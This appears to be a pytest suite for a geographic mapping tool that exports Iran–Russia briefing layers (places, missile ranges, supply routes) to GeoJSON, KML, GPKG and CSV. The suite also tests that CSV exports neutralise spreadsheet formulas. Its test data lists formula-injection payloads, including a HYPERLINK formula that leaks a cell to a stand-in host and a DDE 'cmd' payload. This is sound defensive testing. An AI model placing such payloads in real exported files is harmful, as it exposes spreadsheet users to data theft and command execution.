"""Exports read back by real readers: pyogrio (GDAL) for KML and GPKG, a strict RFC 7946 check for GeoJSON."""

import csv
import json
import xml.etree.ElementTree as ET

import pyogrio
import pytest
import rfc7946
from conftest import DATA_DIR
from pyproj import Geod
from shapely.geometry import shape

from mapper.compose.layers import build_layers
from mapper.core.vocab import LAYER_TITLES
from mapper.export.formats import export_layers
from mapper.load.briefing import default_briefing_path, load_briefing

GEOD = Geod(ellps="WGS84")


@pytest.fixture(scope="module")
def expected(geodata):
    """Layer key -> the ids an export must hold, from the map's own layers."""
    layers = build_layers(geodata, load_briefing(default_briefing_path(DATA_DIR), geodata))
    return {key: [f["properties"]["id"] for f in features] for key, features in export_layers(layers).items()}


def test_expected_content(expected, geodata):
    assert len(expected["places"]) == len(geodata.places) == 24
    assert len(expected["events"]) == len(geodata.events)  # one feature per event
    assert len(expected["ranges"]) == 3  # rings; their centre markers only help drawing
    assert not any(i.endswith(("-arrow", "-centre")) for ids in expected.values() for i in ids)


def test_geojson_is_strict_rfc7946_with_provenance(run, tmp_path, expected):
    result = run("export", "-o", "layers.geojson")
    assert result.exit_code == 0, result.output
    collection = json.loads((tmp_path / "layers.geojson").read_text(encoding="utf-8"))
    assert rfc7946.problems(collection) == []
    by_layer = {}
    for feature in collection["features"]:
        by_layer.setdefault(feature["properties"]["layer"], []).append(feature["properties"]["id"])
        assert shape(feature["geometry"]).is_valid
    assert by_layer == expected
    alabuga = next(f for f in collection["features"] if f["properties"]["id"] == "alabuga-sez")
    assert any("about 600 miles east of Moscow" in c["quote"] for c in alabuga["properties"]["sources"])
    ring = next(f for f in collection["features"] if f["properties"]["id"] == "fath-360-belgorod")
    assert ring["properties"]["radius_m"] == 120000 and ring["properties"]["basis"] == "assumption"
    frame = pyogrio.read_dataframe(tmp_path / "layers.geojson")  # and GDAL reads it too
    assert len(frame) == sum(len(ids) for ids in expected.values())


@pytest.mark.parametrize("suffix", ["gpkg", "kml"])
def test_gis_formats_read_back_by_gdal(run, tmp_path, expected, suffix):
    result = run("export", "-o", f"layers.{suffix}")
    assert result.exit_code == 0, result.output
    path = tmp_path / f"layers.{suffix}"
    names = {key: key.replace("-", "_") if suffix == "gpkg" else LAYER_TITLES[key] for key in expected}
    story = ["Story"] if suffix == "kml" else []  # the default briefing's steps, a folder with its tour
    assert [row[0] for row in pyogrio.list_layers(path)] == list(names.values()) + story
    for key, name in names.items():
        frame = pyogrio.read_dataframe(path, layer=name)
        assert list(frame["id"]) == expected[key], key
        assert frame.geometry.is_valid.all() and not frame.geometry.is_empty.any(), key
        if suffix == "gpkg":
            assert frame.crs.to_epsg() == 4326


def test_gpkg_keeps_values_and_flattens_lists(run, tmp_path):
    run("export", "-o", "layers.gpkg", "--layer", "ranges")
    frame = pyogrio.read_dataframe(tmp_path / "layers.gpkg", layer="ranges")
    belgorod = frame[frame["id"] == "fath-360-belgorod"].iloc[0]
    assert belgorod["radius_m"] == 120000
    assert json.loads(belgorod["places_inside"])[0]["name"] == "Kharkiv"
    assert [row[0] for row in pyogrio.list_layers(tmp_path / "layers.gpkg")] == ["ranges"]


def test_kml_styles_match_the_map(run, tmp_path):
    run("export", "-o", "layers.kml", "--layer", "ranges")
    root = ET.parse(tmp_path / "layers.kml").getroot()
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    style = root.find(".//k:Style[@id='range']", ns)
    assert style.find("k:LineStyle/k:color", ns).text == "f2009fe6"  # #E69F00 (RANGE_COLOR) at 95 %
    assert style.find("k:PolyStyle/k:color", ns).text == "26009fe6"  # #E69F00 at 15 %
    placemark = root.find(".//k:Placemark[@id='fath-360-belgorod']", ns)
    assert placemark.find("k:styleUrl", ns).text == "#range"
    assert placemark.find("k:name", ns).text.endswith("(assumed)")
    assert "75 miles (120 kilometers)" in placemark.find("k:description", ns).text


def test_places_csv(run, tmp_path, geodata):
    run("export", "-f", "csv", "-o", "places.csv")
    with open(tmp_path / "places.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["id"] for r in rows] == [p["properties"]["id"] for p in geodata.places]
    kyiv = next(r for r in rows if r["id"] == "kyiv")
    assert (float(kyiv["lat"]), float(kyiv["lon"])) == pytest.approx((50.4501, 30.5234), abs=0.01)


def test_distances_csv_is_geodesic(run, tmp_path, geodata):
    result = run("export", "-f", "distances", "-p", "moscow", "-p", "Alabuka", "-p", "50.45,30.52",
                 "-o", "d.csv")
    assert result.exit_code == 0, result.output
    with open(tmp_path / "d.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["from"], r["to"]) for r in rows] == [
        ("Moscow", "Alabuga special economic zone"), ("Moscow", "50.45000,30.52000"),
        ("Alabuga special economic zone", "50.45000,30.52000")]
    moscow = geodata.place("moscow")["geometry"]["coordinates"]
    alabuga = geodata.place("alabuga-sez")["geometry"]["coordinates"]
    azimuth, _, distance_m = GEOD.inv(*moscow, *alabuga)
    assert float(rows[0]["distance_m"]) == pytest.approx(distance_m, abs=1e-3)
    assert float(rows[0]["distance_mi"]) == pytest.approx(561.0, abs=0.05)
    assert float(rows[0]["initial_bearing_deg"]) == pytest.approx(azimuth % 360, abs=1e-3)


@pytest.mark.parametrize("args, message", [
    (["-o", "x.shp"], "Error: x.shp: cannot tell the format from the suffix; give --format "
                      "(geojson, kml, gpkg, csv, distances, fragment, png, svg, pdf, screenshot)\n"),
    (["-f", "distances", "-p", "moscow", "-o", "d.csv"], "Error: distances: name at least two places\n"),
    (["-f", "distances", "-p", "moscow", "-p", "atlantis", "-o", "d.csv"], "Error: unknown place 'atlantis'"),
])
def test_export_usage_errors(run, tmp_path, args, message):
    result = run("export", *args)
    assert result.exit_code == 2
    assert result.stderr.startswith(message) and result.stderr.count("\n") == 1
    assert [p.name for p in tmp_path.iterdir()] == []


def test_export_layer_not_in_briefing(run, tmp_path, data_copy):
    briefing = data_copy / "briefings" / "iran-russia.toml"
    # The bundled story without its ranges (a range whose layer is left out is an error).
    briefing.write_text('title = "Places only"\ndata = ["iran-russia"]\nlayers = ["places"]\n', encoding="utf-8")
    result = run("--data-dir", str(data_copy), "export", "--layer", "ranges", "-o", "x.geojson")
    assert result.exit_code == 2
    assert result.stderr == "Error: layer 'ranges': not in this briefing; choose from places\n"


@pytest.mark.parametrize("suffix", ["gpkg", "geojson"])
def test_export_never_clobbers_and_leaves_no_temporary_files(run, tmp_path, suffix):
    out = tmp_path / f"x.{suffix}"
    out.write_text("keep me")
    result = run("export", "-o", out.name)
    assert result.exit_code == 1
    assert result.stderr == f"Error: {out.name}: already exists; use --overwrite to replace it\n"
    assert out.read_text() == "keep me"
    assert run("export", "-o", out.name, "--overwrite").exit_code == 0
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


def test_cli_lists_every_export_format():
    from mapper.cli.export import export
    from mapper.core.vocab import FORMATS

    fmt = next(param for param in export.params if param.name == "fmt")
    assert tuple(fmt.type.choices) == tuple(FORMATS)


# -- issue 17: formulas in CSV exports, control characters in KML attributes -----------------------

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|x",
            "\t=1+1 tabbed", "  =1+2 spaced"]
# Where a spreadsheet would see a formula: the first character, or the first after blanks.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_briefing(folder):
    """A briefing whose places file names places with formulas, in their names, aliases and sources."""
    rows = [["name", "lat", "lon", "source", "aliases", "country"]]
    rows += [[f"{text} place {n}", f"{50 + n / 10:.4f}", f"{30 + n / 10:.4f}", text, f"{text}; plain alias", "UA"]
             for n, text in enumerate(FORMULAS)]
    rows.append(["London", "51.5072", "-0.1275", "Wikipedia", "", "GB"])  # a negative number stays a number
    with open(folder / "p.csv", "w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    (folder / "b.toml").write_text('title = "Formulas"\ndata = ["iran-russia"]\nlayers = ["places"]\n'
                                   'places = ["p.csv"]\n', encoding="utf-8")
    return folder / "b.toml"


def _read_csv(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _check_cells(rows, numeric):
    """Text cells start with no formula character (unless behind '); numeric cells read as numbers."""
    header, *body = rows
    for row in body:
        for column, cell in zip(header, row):
            if column in numeric:
                float(cell)
                assert not cell.startswith("'"), (column, cell)
            else:
                assert not cell.startswith(FORMULA_START), (column, cell)
                assert not cell.lstrip().startswith(FORMULA_START), (column, cell)


def test_places_csv_neutralises_formulas(run, tmp_path):
    briefing = _formula_briefing(tmp_path)
    result = run("export", str(briefing), "-f", "csv", "-o", "places.csv")
    assert result.exit_code == 0, result.output
    rows = _read_csv(tmp_path / "places.csv")
    _check_cells(rows, numeric={"lat", "lon"})
    by_name = {row[1]: dict(zip(rows[0], row)) for row in rows[1:]}
    for n, text in enumerate(FORMULAS):
        typed = f"{text} place {n}".strip()  # the places reader strips a cell's blanks: "\t=1+1" is "=1+1"
        place = by_name[f"'{typed}"]  # the name as typed, behind one quote
        assert place["aliases"] == f"'{text.strip()}; plain alias"
        assert place["location_source"] == f"'{text.strip()}"
        assert (float(place["lat"]), float(place["lon"])) == (pytest.approx(50 + n / 10), pytest.approx(30 + n / 10))
    london = by_name["London"]
    assert (london["lon"], london["lat"], london["location_source"]) == ("-0.127500", "51.507200", "Wikipedia")
    assert by_name["Kyiv"]["name"] == "Kyiv"  # text without a formula is left alone


def test_distances_csv_neutralises_formulas(run, tmp_path):
    briefing = _formula_briefing(tmp_path)
    result = run("export", str(briefing), "-f", "distances", "-p", "@SUM(1) place 2", "-p", "-33.9,-70.6",
                 "-p", "London", "-o", "d.csv")
    assert result.exit_code == 0, result.output
    rows = _read_csv(tmp_path / "d.csv")
    _check_cells(rows, numeric=set(rows[0][2:]))
    assert [(r[0], r[1]) for r in rows[1:]] == [("'@SUM(1) place 2", "'-33.90000,-70.60000"),
                                                 ("'@SUM(1) place 2", "London"),
                                                 ("'-33.90000,-70.60000", "London")]


def test_csv_text_cell():
    from mapper.export.formats import text_cell

    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx", " =1", "\n=1", "\u00a0=1"]:
        assert text_cell(text) == "'" + text, repr(text)
    for text in ["Kyiv", "", "a=b", "1-2", "'quoted", "50.45"]:
        assert text_cell(text) == text, repr(text)


@pytest.mark.parametrize("key", ["ranges", "routes"])
def test_kml_attributes_hold_no_control_characters(run, tmp_path, key):
    """An id with an ESC, which XML cannot hold, becomes U+FFFD in the attribute as in text; GDAL reads the file."""
    entry = ('[[ranges]]\nid = "a\\u001bb"\nsystem = "fath-360"\ncentre = "kyiv"\n' if key == "ranges" else
             '[[routes]]\nid = "a\\u001bb"\nfrom = "bandar-anzali"\nto = "astrakhan"\nmode = "great-circle"\n')
    layer = "ranges" if key == "ranges" else "supply-flows"
    (tmp_path / "b.toml").write_text(f'title = "Ids"\ndata = ["iran-russia"]\nlayers = ["{layer}"]\n{entry}',
                                     encoding="utf-8")
    result = run("export", str(tmp_path / "b.toml"), "-o", "x.kml")
    assert result.exit_code == 0, result.output
    root = ET.parse(tmp_path / "x.kml").getroot()
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    ids = [p.get("id") for p in root.iterfind(".//k:Placemark", ns)]
    assert "a\ufffdb" in ids and not any("\x1b" in i for i in ids)
    frame = pyogrio.read_dataframe(tmp_path / "x.kml", layer=LAYER_TITLES[layer])
    assert list(frame["id"]) == ids
